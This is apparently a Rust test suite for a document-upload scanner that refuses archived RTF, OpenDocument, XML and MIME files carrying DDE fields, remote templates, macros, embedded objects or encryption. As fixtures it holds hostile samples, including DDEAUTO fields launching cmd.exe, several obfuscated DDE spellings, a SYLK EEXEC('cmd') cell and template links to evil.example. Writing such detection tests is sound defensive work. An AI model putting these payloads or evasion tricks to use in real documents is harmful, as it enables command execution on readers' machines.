//! Documents in archives that are neither Word's two formats nor PDFs: RTF, OpenDocument, one XML or MIME file.

use super::*;

fn rtf(body: &str) -> Vec<u8> {
    format!("{{\\rtf1\\ansi{{\\fonttbl{{\\f0 Arial;}}}}\\f0 {body}}}").into_bytes()
}

#[track_caller]
fn refused_everywhere(bytes: &[u8], words: &str) {
    for name in ["essay.rtf", "essay.doc", "essay.dat", "essay"] {
        refused(&zip_of(&[("a.txt", b"a"), (name, bytes)]), FileType::Zip, words);
        refused(&zip_of(&[("inner.zip", &zip_of(&[(name, bytes)]))]), FileType::Zip, words);
    }
    refused(&docx(&[("word/afchunk.rtf", bytes)]), FileType::Docx, words);
    refused(&doc(&["/ObjectPool"], &[WORD, ("/ObjectPool/x", bytes)]), FileType::Doc, words);
}

#[test]
fn a_field_of_a_rich_text_that_starts_a_program_is_refused_however_it_is_spelled() {
    for field in [
        r"{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe}{\fldrslt x}}",
        r"{\field{\*\fldinst { dde excel x y}}{\fldrslt x}}",
        r"{\field{\*\fldinst {\b D}{\i DE}AUTO x}{\fldrslt x}}",
        r"{\field{\*\fldinst \'44\'44EAUTO x}{\fldrslt x}}",
        r"{\field{\*\fldinst \u68?DEAUTO x}{\fldrslt x}}",
        r"{\field{\*\fldinst \uc0\u68 DEAUTO x}{\fldrslt x}}",
        r"{\field{\*\fldinst \uc2\u68 ab\u68\'61\'62EAUTO x}{\fldrslt x}}",
        r"{\field{\*\fldinst {\bin1 }}DDEAUTO x}{\fldrslt x}}",
        "{\\field{\\*\\fldinst D\r\nDEAUTO x}{\\fldrslt x}}",
        r"{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} x}{\fldrslt x}}",
        r"{\field{\*\fldinst DDEAUTO x",
    ] {
        refused_everywhere(&rtf(field), "DDE");
    }
    refused_everywhere(b"\xEF\xBB\xBF\r\n {\\rt{\\field{\\*\\fldinst DDE x}}}", "DDE");
}

#[test]
fn a_rich_text_with_a_template_from_elsewhere_or_an_object_is_refused() {
    for template in [
        r"{\*\template https://evil.example/t.dotm}",
        r"{\*\template \\\\host\\share\\t.dotm}",
        r"{\*\template \'68ttp://evil.example/t}",
        r"{\*\template \u104?\u116?tp://evil.example/t}",
        r"{\*\template {\b ht}tp://evil.example/t}",
    ] {
        refused_everywhere(&rtf(template), "fetches its template from elsewhere");
    }
    for object in [
        r"{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}",
        r"{\object\objocx{\*\objdata 01}}",
        r"{\*\objdata01{\*\x}05}",
        r"{\object\objautlink\objupdate x}",
        r"{\bin99999999 {\*\objdata 01}}",
    ] {
        refused_everywhere(&rtf(object), "embedded object");
    }
}

#[test]
fn an_honest_rich_text_is_taken() {
    for body in [
        r"What I learned about DDE and \\object storage.\par More.",
        r"{\*\template C:\\Templates\\Normal.dotm}Text",
        r#"{\field{\*\fldinst HYPERLINK "https://example.org/DDE"}{\fldrslt a link}}"#,
        r"{\field{\*\fldinst PAGE}{\fldrslt 1}}{\pict\pngblip 89504e47}",
        r"{\field{\*\fldinst IF {\field{\*\fldinst PAGE}{\fldrslt 1}} = 1 a b}{\fldrslt a}}",
        r"\u8364?\'e9t\'e9{",
    ] {
        assert_eq!(inspect_bytes(&zip_of(&[("essay.rtf", &rtf(body))]), FileType::Zip), Ok(()), "{body}");
    }
    assert_eq!(inspect_bytes(&zip_of(&[("essay.rtf", b"no rich text")]), FileType::Zip), Ok(()));
}

const MANIFEST: &[u8] =
    b"<manifest:manifest><manifest:file-entry manifest:full-path='/'/></manifest:manifest>";

fn odt(content: &str, more: &[Member<'_>]) -> Vec<u8> {
    let content =
        format!("<office:document-content><office:body>{content}</office:body></office:document-content>");
    let base: [Member<'_>; 3] = [
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", content.as_bytes()),
        ("META-INF/manifest.xml", MANIFEST),
    ];
    let entries: Vec<Member<'_>> = base
        .into_iter()
        .filter(|entry| !more.iter().any(|other| other.0 == entry.0))
        .chain(more.iter().copied())
        .collect();
    zip_of(&entries)
}

#[test]
fn an_open_document_that_runs_or_fetches_something_is_refused_inside_archives() {
    let locked = b"<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>";
    for (bytes, words) in [
        (odt("", &[("Basic/Standard/Module1.xml", b"<script:module/>")]), "contains macros"),
        (odt("", &[("Scripts/python/a.py", b"a")]), "contains macros"),
        (odt("", &[("Object 1/Basic/Standard/M.xml", b"<script:module/>")]), "contains macros"),
        (
            odt(
                "<script:event-listener script:event-name='dom:load' xlink:href='vnd.sun.star.script:a'/>",
                &[],
            ),
            "contains macros",
        ),
        (odt("", &[("META-INF/manifest.xml", locked)]), "encrypted with a password"),
        (
            odt("<text:section><office:dde-source office:dde-application='soffice'/></text:section>", &[]),
            "DDE",
        ),
        (odt("<table:table-cell table:formula='of:=DD&#69;(&quot;cmd&quot;)'/>", &[]), "DDE"),
        (
            odt("<text:section-source xlink:href='\\\\host\\share\\a.odt'/>", &[]),
            "fetches content from elsewhere",
        ),
        (odt("<draw:object xlink:href='https://evil.example/a'/>", &[]), "fetches content from elsewhere"),
        (
            odt("", &[("meta.xml", b"<a><meta:template xlink:href='https://evil.example/t.ott'/></a>")]),
            "fetches its template",
        ),
    ] {
        refused(&zip_of(&[("essay.odt", &bytes)]), FileType::Zip, words);
        refused(&zip_of(&[("notes.dat", &bytes)]), FileType::Zip, words);
    }
    let lists: [Member<'_>; 2] =
        [("Basic/script-lc.xml", b"<a/>"), ("Basic/Standard/script-lb.xml", b"<a/>")];
    let honest =
        odt("<text:a xlink:href='https://example.org'/><draw:object xlink:href='./Object 1'/>", &lists);
    assert_eq!(inspect_bytes(&zip_of(&[("essay.odt", &honest)]), FileType::Zip), Ok(()));
    // A document is no level of archives.
    let inner = zip_of(&[("essay.odt", &honest)]);
    assert_eq!(inspect_bytes(&zip_of(&[("inner.zip", &inner)]), FileType::Zip), Ok(()));
}

#[test]
fn a_document_in_one_file_that_cannot_be_looked_through_is_refused() {
    let flat = b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><pkg:package/>".as_slice();
    let wide: Vec<u8> = [b"\xFF\xFE".to_vec(), flat.iter().flat_map(|byte| [*byte, 0]).collect()].concat();
    let far = [b"<?xml version='1.0'?><!-- ".as_slice(), &[b'x'; 5000], b" --><pkg:package/>"].concat();
    for (name, bytes) in [
        ("essay.xml", flat),
        ("essay.doc", flat),
        ("essay.xml", &wide),
        ("essay.xml", b"<w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'/>"),
        ("essay.doc", &far),
        ("essay.doc", b"MIME-Version: 1.0\r\nContent-Type: multipart/related"),
        ("essay.mht", b"mime-version: 1.0\r\n"),
        ("notes.one", b"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D"),
        ("prices.slk", b"ID;PWXL;N;E\r\nC;X1;Y1;EEXEC(\"cmd\")\r\n"),
        ("essay.fodt", b"<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"),
    ] {
        refused(
            &zip_of(&[("a.txt", b"a"), (name, bytes)]),
            FileType::Zip,
            "in a form that cannot be checked",
        );
    }
    for (name, bytes) in [
        ("data.xml", b"<?xml version='1.0'?><invoice/>".as_slice()),
        ("mail.eml", b"MIME-Version: 1.0\r\n"),
        ("notes.txt", flat),
        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    ] {
        assert_eq!(inspect_bytes(&zip_of(&[(name, bytes)]), FileType::Zip), Ok(()), "{name}");
    }
}

/// What stands in an archive is judged by the rules for what is uploaded by itself.
#[test]
fn an_entry_of_an_archive_is_judged_as_an_upload_is() {
    let external = |kind: &str| {
        relationships(&format!(
            "<Relationship Id='a' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='https://evil.example/t' TargetMode='External'/>"
        ))
    };
    let template = docx(&[("word/_rels/settings.xml.rels", &external("attachedTemplate"))]);
    let linked = docx(&[("word/_rels/document.xml.rels", &external("oleObject"))]);
    let dde = docx_of(b"<w:document><w:fldSimple w:instr='DDEAUTO x'/></w:document>", &[]);
    let object = doc(&["/ObjectPool"], &[WORD, ("/ObjectPool/\u{1}Ole10Native", b"x")]);
    let package = docx(&[("word/embeddings/oleObject1.bin", &doc(&[], &[("/\u{1}Ole10Native", b"x")]))]);
    let locked = doc(&[], &[("/EncryptedPackage", b"x")]);
    let password = pdf("trailer << /Encrypt 9 0 R >>\n");
    let in_picture =
        [b"\xFF\xD8\xFF\xFE\0\x0A%PDF-1.7".as_slice(), b"7 0 obj << /S /JavaScript >> endobj\n"].concat();
    for (bytes, kind, words) in [
        (&template, FileType::Docx, "fetches its template from elsewhere"),
        (&linked, FileType::Docx, "fetches content from elsewhere"),
        (&dde, FileType::Docx, "DDE"),
        (&package, FileType::Docx, "embedded file"),
        (&object, FileType::Doc, "embedded file"),
        (&locked, FileType::Doc, "encrypted with a password"),
        (&password, FileType::Pdf, "encrypted with a password"),
    ] {
        refused(bytes, kind, words);
        for name in ["a.dotx", "a.dat", "a"] {
            refused(&zip_of(&[("a.txt", b"a"), (name, bytes)]), FileType::Zip, words);
            refused(&zip_of(&[("inner.bin", &zip_of(&[(name, bytes)]))]), FileType::Zip, words);
        }
    }
    refused(&zip_of(&[("a.pdf", &in_picture)]), FileType::Zip, "JavaScript");
}
